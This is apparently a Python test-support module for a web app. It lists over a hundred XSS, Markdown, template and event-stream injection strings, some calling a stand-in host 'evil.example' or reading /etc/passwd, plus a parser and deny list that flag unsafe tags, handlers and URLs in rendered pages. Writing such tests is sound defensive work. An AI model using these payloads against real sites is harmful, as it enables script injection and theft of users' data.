"""Texts that try to run a script, fetch something or break out of their place in a
page, and checks of the HTML that a page may contain."""

from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from urllib.parse import urlsplit

from tests.support.deep import share

_TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*",
    "</script><script>alert(1)</script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script async src=data:text/javascript,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\u000c=alert(1)>",
    "<img/src/onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<img srcset='https://evil.example/p.gif 1x'>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example/x.html>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/p)}</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<form action=https://evil.example><input name=token><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='https://x' onclick=alert(1)>x</a>",
    "<div style='background:url(https://evil.example/p)'>x</div>",
    "<div style=position:fixed;inset:0>cover</div>",
    "<x onclick=alert(1)>x</x>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example'onmouseover='alert(1))",
    "[x](https://a.example/%22onmouseover=%22alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '![" onerror=alert(1) x="](x)',
    '![x](x "\\" onerror=alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "```javascript onload=alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <details open ontoggle=alert(1)>",
    "> <svg onload=alert(1)>",
    "$$<img src=x onerror=alert(1)>$$",
    "<p>**bold**<script>alert(1)</script></p>",
    "a\n\n<div\nonclick=alert(1)>\n\nb",
)
_PLACES = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "`onmouseover=alert(1)",
    "{{7*7}}{{config}}{% raw %}",
    "${alert(1)}",
    "';alert(1)//",
    '\\";alert(1)//',
    "\u2028alert(1)//",
    'data: {"text":"forged"}\n\nevent: done\ndata: {}\n\n',
    "\r\n\r\nevent: error\r\nid: forged\r\ndata: {}\r\n\r\n",
    "\rdata: forged\r\r",
    "id: 1\nretry: 1\n",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202etpircs<\u202c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

#: More than a hundred of them.
SCRIPTS = (*_TAGS, *_MARKDOWN, *_PLACES)

_SCHEMES = ("", "http", "https", "mailto")
# What loads something, or names where something is sent.
_LOADS = {"src", "srcset", "data", "poster", "background", "manifest", "ping"}
_LEADS = {"href", "action", "formaction", "cite", "xlink:href"}
_FORBIDDEN = {
    *("iframe", "object", "embed", "base", "style", "applet", "frame", "frameset"),
    *("math", "template", "noscript", "plaintext", "xmp", "marquee", "image", "x"),
    *("video", "audio", "source", "track", "keygen", "param", "portal"),
}


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._script = self._data = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in _FORBIDDEN:
            self.faults.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in values:
            self.faults.append("meta http-equiv")
        if tag == "script":
            # Data for our scripts, which no browser runs; it is closed by no "<" of it.
            self._data = values.get("type") == "application/json"
            self._script = not self._data
            if self._script and not values.get("src", "").startswith("/static/"):
                self.faults.append(f"script {values}")
        for name, value in values.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.faults.append(f"{tag} {name}={value}")
            if name in _LOADS and not value.startswith(("/static/", "/files/")):
                self.faults.append(f"{tag} {name}={value}")
            if name in _LEADS:
                self._lead(tag, name, value)

    def _lead(self, tag: str, name: str, value: str) -> None:
        # As browsers read it: without blanks and control characters.
        plain = "".join(each for each in value if each > " ")
        try:
            scheme = urlsplit(plain).scheme.lower()
        except ValueError:
            scheme = "?"
        ours = plain.startswith("/") and not plain.startswith("//")
        if scheme not in _SCHEMES or (tag in ("link", "form") and not ours):
            self.faults.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if (self._script and data.strip()) or (self._data and "<" in data):
            self.faults.append(f"script: {data}")

    def handle_endtag(self, tag: str) -> None:
        self._script = self._data = False

    def handle_decl(self, decl: str) -> None:
        if decl.lower() != "doctype html":
            self.faults.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.faults.append(f"<![{data}")


def faults(html: str) -> list[str]:
    """Return what in a page of ours could run, load or send something."""
    page = _Page()
    page.feed(html)
    page.close()
    return page.faults


def some(number: int) -> Sequence[str]:
    """Return the texts that one kind of page meets in the short form: one in 25, as
    `share` numbers them."""
    return share(SCRIPTS, number, 25)


def chunks(count: int, number: int) -> Iterator[Sequence[str]]:
    """Yield the texts of `some` in groups of `count`."""
    texts = some(number)
    for start in range(0, len(texts), count):
        yield texts[start : start + count]
